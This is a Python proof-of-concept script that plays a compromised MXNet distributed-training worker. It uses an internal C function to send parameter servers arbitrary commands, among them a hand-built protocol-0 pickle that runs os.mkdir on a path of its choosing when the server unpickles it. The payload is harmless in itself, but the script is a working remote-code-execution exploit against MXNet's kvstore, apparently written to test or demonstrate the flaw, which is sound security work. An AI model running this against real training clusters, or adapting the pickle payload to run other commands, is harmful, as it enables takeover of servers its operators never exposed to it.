"""A compromised worker: it trains a step, sends the servers commands as any worker can, and trains another step.

HEAD BODY…, where a body is text, or `pickle:PATH` for a pickle that makes the directory PATH when it is loaded. They
go through MXNet's C function: no Python of the job's stands between. ATTACK_RANK is the worker that does it (default:
0); with ATTACK_MIDWAY another worker's gradient is under way meanwhile.
"""

import ctypes
import os
import sys
import time

import mxnet as mx
from mxnet.base import _LIB

SIZE = 64
midway = "ATTACK_MIDWAY" in os.environ
dtype = os.environ.get("ATTACK_DTYPE", "float32")
kv = mx.kv.create(os.environ.get("ATTACK_STORE", "dist_sync"))
out = mx.nd.zeros(SIZE, dtype=dtype)
kv.init(0, out)
kv.set_optimizer(mx.optimizer.SGD(learning_rate=1.0))


def body(text):
    path = text.removeprefix("pickle:")
    return text.encode() if path == text else f"cos\nmkdir\n(V{path}\ntR.".encode()  # protocol 0, as MXNet sends it


def step():
    kv.push(0, mx.nd.ones(SIZE, dtype=dtype))
    kv.pull(0, out=out)
    print(f"WEIGHT {out.asnumpy()[0]:.6g}", flush=True)


step()
kv._barrier()
if kv.rank == int(os.environ.get("ATTACK_RANK", "0")):
    if midway:
        time.sleep(1)  # nothing on this side tells when the other worker's gradient has arrived
    print("SENDING", flush=True)
    for head, text in zip(sys.argv[1::2], sys.argv[2::2], strict=True):
        _LIB.MXKVStoreSendCommmandToServers(kv.handle, ctypes.c_int(int(head)), ctypes.c_char_p(body(text)))
        print("ACKNOWLEDGED", head, flush=True)
    step()
elif midway:
    step()
print("FINISHED", flush=True)
